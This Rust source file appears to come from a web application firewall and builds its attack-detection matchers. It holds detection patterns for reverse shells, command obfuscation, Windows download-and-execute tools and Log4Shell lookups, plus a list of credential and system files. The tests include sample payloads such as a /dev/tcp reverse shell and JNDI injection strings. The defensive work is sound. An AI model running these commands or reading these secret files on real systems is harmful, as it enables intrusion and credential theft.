//! Matchers compiled once per [`super::Waf`]: the signature `RegexSet`, the sensitive-file
//! and sink name automata.

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};
use regex::RegexSet;

use super::rules::RuleId;
use super::xss::{SINK_CALLS, SINK_PROPERTIES};

/// Signature patterns that the tokenizing detectors do not cover, with the rule each one
/// reports. They run as one `RegexSet` pass over the comment- and whitespace-folded value.
/// Word boundaries are ASCII (`(?-u:\b)`) so that the lazy DFA can run them on any input.
const SIGNATURES: &[(RuleId, &str)] = &[
    (
        RuleId::FILE_WRAPPER,
        r"(?i)(?:^|[^a-z0-9.+-])(?:file|php|expect|phar|zip|glob|jar|netdoc|gopher|dict|compress\.zlib|compress\.bzip2|ogg|rar|ssh2\.[a-z]+)://",
    ),
    (RuleId::CMD_REVERSE_SHELL, r"(?i)/dev/(?:tcp|udp)/"),
    (
        RuleId::CMD_REVERSE_SHELL,
        r"(?i)(?-u:\b)(?:ba|z|k|c|tc|da)?sh\s+-i(?-u:\b)",
    ),
    (
        RuleId::CMD_REVERSE_SHELL,
        r"(?i)(?-u:\b)n(?:c|cat|etcat)(?:\.exe)?\s+(?:-[a-z]+\s+)*-[a-z]*[ec]\s",
    ),
    (
        RuleId::CMD_REVERSE_SHELL,
        r"(?i)(?-u:\b)(?:wget|curl|fetch)(?-u:\b)[^|;&\n]{0,200}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh(?-u:\b)",
    ),
    (
        RuleId::CMD_REVERSE_SHELL,
        r#"(?i)(?-u:\b)(?:python[23]?|perl|ruby|php|node|lua)(?-u:\b)\s+-[a-z]*[erc]\s*['"]"#,
    ),
    (
        RuleId::CMD_REVERSE_SHELL,
        r"(?i)(?-u:\b)socat(?-u:\b)[^\n]{0,60}exec:",
    ),
    (RuleId::CMD_REVERSE_SHELL, r"(?i)(?-u:\b)mkfifo\s+/"),
    (RuleId::CMD_OBFUSCATION, r"(?i)\$(?:\{ifs\}|ifs(?-u:\b))"),
    (
        RuleId::CMD_OBFUSCATION,
        r"(?i)\{(?:cat|ls|id|wget|curl|nc|bash|sh|echo|uname|whoami|ping|rm|python|perl|base64|tac|head),[^}\s]{1,200}\}",
    ),
    (
        RuleId::CMD_OBFUSCATION,
        r"\$'(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}){2,}'",
    ),
    (RuleId::CMD_OBFUSCATION, r"/\?{2,}[a-z?]*/"),
    (
        RuleId::CMD_WINDOWS,
        r"(?i)(?-u:\b)cmd(?:\.exe)?\s*/[ckr](?-u:\b)",
    ),
    (
        RuleId::CMD_WINDOWS,
        r"(?i)(?-u:\b)(?:powershell|pwsh)(?:\.exe)?(?-u:\b)[^\n]{0,60}\s-(?:e|ec|enc|encodedcommand|c|command|nop|noprofile|w|windowstyle|ep|executionpolicy|noni|noninteractive)(?-u:\b)",
    ),
    (
        RuleId::CMD_WINDOWS,
        r#"(?i)(?-u:\b)(?:iex|invoke-expression|invoke-webrequest|iwr|invoke-restmethod|start-process)\s*[(\-'"$]"#,
    ),
    (
        RuleId::CMD_WINDOWS,
        r"(?i)new-object\s+(?:-typename\s+)?(?:system\.)?net\.(?:webclient|sockets)",
    ),
    (
        RuleId::CMD_WINDOWS,
        r"(?i)\.download(?:string|file|data)\s*\(",
    ),
    (
        RuleId::CMD_WINDOWS,
        r"(?i)(?-u:\b)certutil(?:\.exe)?(?-u:\b)[^\n]{0,60}-(?:urlcache|decode|encode)(?-u:\b)",
    ),
    (
        RuleId::CMD_WINDOWS,
        r#"(?i)(?-u:\b)(?:mshta|rundll32|regsvr32|bitsadmin|wmic)(?:\.exe)?\s+[^\n]{0,40}[:/\\"-]"#,
    ),
    (
        RuleId::CMD_SHELL_PATH,
        r"(?i)(?:^|[^a-z0-9_])/(?:usr/(?:local/)?)?bin/(?:ba|z|k|c|tc|da|fi)?sh(?-u:\b)",
    ),
    (
        RuleId::CMD_JNDI,
        r"(?i)\$\{\s*(?:jndi\s*:|::-|(?:lower|upper|env|sys|date|main|ctx|java|base64|bundle|marker|sd|spring|k8s|docker|log4j|web)\s*:)",
    ),
    (RuleId::CMD_JNDI, r"\$\{[^{}]{0,20}\$\{"),
];

/// Sensitive files and directories. `true` marks the ones reported at paranoia level 1.
const SENSITIVE_FILES: &[(&str, bool)] = &[
    ("etc/passwd", true),
    ("etc/shadow", true),
    ("etc/master.passwd", true),
    ("etc/sudoers", true),
    ("etc/crontab", true),
    ("proc/self/", true),
    ("win.ini", true),
    ("boot.ini", true),
    ("system.ini", true),
    ("windows/system32", true),
    ("winnt/system32", true),
    ("web-inf/web.xml", true),
    (".htaccess", true),
    (".htpasswd", true),
    (".git/", true),
    (".svn/", true),
    (".hg/", true),
    (".ssh/", true),
    ("/id_rsa", true),
    ("/id_dsa", true),
    ("/id_ecdsa", true),
    ("/id_ed25519", true),
    ("/authorized_keys", true),
    (".bash_history", true),
    (".aws/credentials", true),
    ("wp-config.php", true),
    ("autoexec.bat", true),
    ("/.env", true),
    ("etc/hosts", false),
    ("etc/group", false),
    ("etc/issue", false),
    ("etc/motd", false),
    ("etc/hostname", false),
    ("etc/resolv.conf", false),
    ("var/log/", false),
    ("proc/version", false),
    ("proc/cpuinfo", false),
];

/// The compiled matchers.
pub(crate) struct Matchers {
    pub signatures: RegexSet,
    pub signature_rules: Vec<RuleId>,
    pub sensitive_files: AhoCorasick,
    pub sinks: AhoCorasick,
}

/// Failure to compile a built-in pattern; a bug in this module, reported rather than
/// panicking.
#[derive(Debug)]
pub(crate) struct BuildError(pub String);

impl Matchers {
    pub(crate) fn build() -> Result<Self, BuildError> {
        let signatures = RegexSet::new(SIGNATURES.iter().map(|(_, pattern)| *pattern))
            .map_err(|error| BuildError(error.to_string()))?;
        let sensitive_files = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::LeftmostFirst)
            .kind(Some(AhoCorasickKind::DFA))
            .build(SENSITIVE_FILES.iter().map(|(name, _)| name))
            .map_err(|error| BuildError(error.to_string()))?;
        let sinks = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::LeftmostFirst)
            .kind(Some(AhoCorasickKind::DFA))
            .build(SINK_CALLS.iter().chain(SINK_PROPERTIES))
            .map_err(|error| BuildError(error.to_string()))?;
        Ok(Matchers {
            signatures,
            signature_rules: SIGNATURES.iter().map(|(rule, _)| *rule).collect(),
            sensitive_files,
            sinks,
        })
    }

    /// Whether the sensitive-file pattern with this index is reported at paranoia level 1.
    pub(crate) fn sensitive_file_is_strong(&self, pattern: usize) -> bool {
        SENSITIVE_FILES
            .get(pattern)
            .is_some_and(|(_, strong)| *strong)
    }

    pub(crate) fn sensitive_file_name(&self, pattern: usize) -> &'static str {
        SENSITIVE_FILES.get(pattern).map_or("", |(name, _)| name)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn signature_rules(text: &str) -> Vec<u32> {
        let matchers = Matchers::build().unwrap();
        let mut ids: Vec<u32> = matchers
            .signatures
            .matches(text)
            .iter()
            .map(|index| matchers.signature_rules[index].0)
            .collect();
        ids.dedup();
        ids
    }

    #[test]
    fn matchers_compile() {
        assert!(Matchers::build().is_ok());
    }

    #[test]
    fn signature_examples() {
        assert_eq!(
            signature_rules("php://filter/convert.base64-encode/resource=index"),
            [3004]
        );
        assert_eq!(
            signature_rules("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
            [4003]
        );
        assert_eq!(signature_rules("cat$IFS/etc/passwd"), [4004]);
        assert_eq!(signature_rules("{cat,/etc/passwd}"), [4004]);
        assert_eq!(signature_rules("cmd.exe /c dir"), [4005]);
        assert_eq!(signature_rules("powershell -nop -enc SQBFAFgA"), [4005]);
        assert_eq!(signature_rules("${jndi:ldap://x/a}"), [4007]);
        assert_eq!(signature_rules("${${lower:j}ndi:ldap://x/a}"), [4007]);
        assert_eq!(signature_rules("exec /bin/sh"), [4006]);
    }

    #[test]
    fn signatures_skip_benign() {
        for benign in [
            "https://example.com/files/report.pdf",
            "I use bash -- it is fine",
            "the nc command",
            "C:\\Program Files\\App",
            "price is ${amount}",
            "powershell is a shell",
            "my cmd key",
            "what? why??",
        ] {
            assert!(signature_rules(benign).is_empty(), "{benign}");
        }
    }
}
